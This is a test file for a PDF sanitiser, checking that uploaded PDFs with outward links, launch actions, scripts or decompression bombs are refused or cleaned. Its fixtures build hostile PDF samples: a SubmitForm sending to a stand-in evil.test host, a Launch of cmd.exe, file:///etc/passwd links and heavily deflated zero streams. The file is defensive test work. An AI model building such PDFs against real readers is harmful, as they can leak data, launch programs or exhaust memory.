import { deflateSync } from 'node:zlib';
import * as mupdf from 'mupdf';
import { describe, expect, it } from 'vitest';
import { lookInto } from '#server/files/look-into-file.ts';
import { pdf } from '#test/kit/given-files.ts';
import { latin1 } from '#test/kit/packed-pdf.ts';

/**
 * PDFs that refer to something outside themselves, or expand when read. Each is refused with a sentence, or saved
 * without it.
 */

const OUTSIDE =
  /evil|GoToR|Thread|FFilter|Filespec\b|\/Ref\b|\/OPI|\/AF\b|NewWindow|\/Base|javascript|passwd|file:/;

/** The saved file with all streams decompressed. */
async function keepReadable(content: Uint8Array): Promise<string> {
  const result = await lookInto(Buffer.from(content));
  if (result.kind !== 'harmless') throw new Error(JSON.stringify(result));
  const document = mupdf.PDFDocument.openDocument(result.file.content, 'application/pdf').asPDF();
  return Buffer.from(document?.saveToBuffer('ascii,decompress').asUint8Array() ?? []).toString('latin1');
}

const object = (number: number, body: string) => `${number} 0 obj\n${body}\nendobj\n`;
const stream = (number: number, keys: string, bytes: string) =>
  object(number, `<< ${keys} /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`);
const link = (action: string) =>
  pdf(object(8, `<< /Subtype /Link /Rect [0 0 9 9] /F 4 /A ${action} >>`), '/Kept [8 0 R]');

const OUTWARD: [what: string, content: Uint8Array][] = [
  ['a link into another file', link('<< /S /GoToR /F (//evil/share/a.pdf) /D [0 /Fit] /NewWindow true >>')],
  [
    'the same by a file specification',
    link('<< /S /GoToR /F << /Type /Filespec /UF (evil.pdf) >> /D (x) >>'),
  ],
  ['the same, spelt otherwise', link('<< /S /G#6fToR /#46 (evil.pdf) /D [0 /Fit] >>')],
  ['a link to an article of another file', link('<< /S /Thread /F (evil.pdf) /D 0 >>')],
  ['a link to a file of the machine', link('<< /S /URI /URI (file:///etc/passwd) >>')],
  ['a link to a share', link('<< /S /URI /URI (\\\\\\\\evil\\\\share) >>')],
  ['a link that is a script', link('<< /S /URI /URI (javascript:evil) >>')],
  ['a base for every link', pdf('', '/URI << /Base (file://evil/) >>')],
  ['a link behind another', link('<< /S /Named /N /NextPage /Next << /S /GoToR /F (evil.pdf) /D 0 >> >>')],
  [
    'an action of its own object',
    pdf(object(8, '<< /S /GoToR /F (evil.pdf) /D [0 /Fit] >>'), '/OpenAction 8 0 R'),
  ],
  [
    'a page of another file in place of its own',
    pdf(
      stream(8, '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (//evil/a.pdf) /Page 0 >>', 'q Q'),
      '/Kept 8 0 R',
    ),
  ],
  ['a stream that lies elsewhere', pdf(stream(8, '/F (//evil/a) /FFilter /FlateDecode', ''), '/Kept 8 0 R')],
  [
    'a stream that lies at an address',
    pdf(stream(8, '/F << /FS /URL /F (https://evil.test/a) >>', ''), '/Kept 8 0 R'),
  ],
  [
    'files that belong to it',
    pdf(object(8, '<< /Type /Filespec /F (evil.doc) /UF (evil.doc) >>'), '/AF [8 0 R]'),
  ],
  [
    'a prepress picture that lies elsewhere',
    pdf(
      stream(8, '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI << /2.0 << /F (evil.tif) >> >>', ''),
      '/Kept 8 0 R',
    ),
  ],
];

const REFUSED: [what: string, content: Uint8Array][] = [
  ['a program', link('<< /S /Launch /F (cmd.exe) >>')],
  ['a program for one system', link('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>')],
  ['a form that sends', link('<< /S /SubmitForm /F << /FS /URL /F (https://evil.test) >> >>')],
  ['a form that fetches', link('<< /S /ImportData /F (evil.fdf) >>')],
  ['a file in it', link('<< /S /GoToE /T << /R /C >> >>')],
  [
    'a file at a note',
    pdf(object(8, '<< /Subtype /FileAttachment /FS << /EF << /F 9 0 R >> >> >>'), '/Kept 8 0 R'),
  ],
  ['a film', pdf(object(8, '<< /Subtype /RichMedia >>'), '/Kept 8 0 R')],
  ['a model with a script', pdf(object(8, '<< /Subtype /3D /3DD 9 0 R >>'), '/Kept 8 0 R')],
  ['a script at a key', pdf(object(8, '<< /K << /S /JavaScript /JS 9 0 R >> >>'), '/Kept 8 0 R')],
];

const MEGABYTE = 1024 * 1024;
const deflated = (bytes: Buffer, times = 1): string => {
  let packed = bytes;
  for (let time = 0; time < times; time++) packed = deflateSync(packed, { level: 9 });
  return packed.toString('latin1');
};
const zeros = (megabytes: number) => Buffer.alloc(megabytes * MEGABYTE);
const onPage = (keys: string, bytes: string) =>
  latin1(
    Buffer.from(pdf(stream(8, keys, bytes)))
      .toString('latin1')
      .replace('/MediaBox [0 0 200 200]', '/MediaBox [0 0 200 200] /Contents 8 0 R'),
  );
const FLATE = '/Filter /FlateDecode';

const GROWING: [what: string, content: Uint8Array][] = [
  ['a page', onPage(FLATE, deflated(zeros(65)))],
  ['a page, packed three times', onPage('/Filter [/FlateDecode /Fl /FlateDecode]', deflated(zeros(65), 3))],
  ['a font', pdf(stream(8, `/Length1 9 ${FLATE}`, deflated(zeros(65))), '/Kept << /FontFile2 8 0 R >>')],
  [
    'a picture',
    pdf(stream(8, `/Subtype /Image /Width 9 /Height 9 ${FLATE}`, deflated(zeros(65))), '/Kept 8 0 R'),
  ],
  [
    'a picture by what it claims',
    pdf(stream(8, '/Subtype /Image /Width 99999 /Height 99999 /Filter /DCTDecode', 'x'), '/Kept 8 0 R'),
  ],
  [
    'many streams together',
    pdf(
      Array.from({ length: 9 }, (_, at) => stream(10 + at, FLATE, deflated(zeros(30)))).join(''),
      `/Kept [${Array.from({ length: 9 }, (_, at) => `${10 + at} 0 R`).join(' ')}]`,
    ),
  ],
];

describe('a PDF', () => {
  it.each(OUTWARD)('[DOC-03] with %s is rewritten without it', async (_, content) => {
    const kept = await keepReadable(content);
    expect(kept).not.toMatch(OUTSIDE);
  });

  it.each(REFUSED)('[DOC-03] with %s is refused', async (_, content) => {
    expect(await lookInto(Buffer.from(content))).toMatchObject({
      kind: 'refused',
      message: expect.stringContaining('scripts'),
    });
  });

  it.each(GROWING)('[DOC-03] that expands when read is refused: %s', async (_, content) => {
    expect(await lookInto(Buffer.from(content))).toMatchObject({
      kind: 'refused',
      message: expect.stringContaining('We cannot check'),
    });
  });

  it('[DOC-03] keeps its links to web pages, e-mail and its own pages, and the flags of a note', async () => {
    const kept = await keepReadable(
      link(
        '[<< /S /URI /URI (https://croydon.gov.uk/a) >> << /S /URI /URI (mailto:a@b.test) >> << /S /GoTo /D [3 0 R /Fit] >>]',
      ),
    );
    for (const part of ['https://croydon.gov.uk/a', 'mailto:a@b.test', '/GoTo', '/F 4'])
      expect(kept).toContain(part);
  });
});
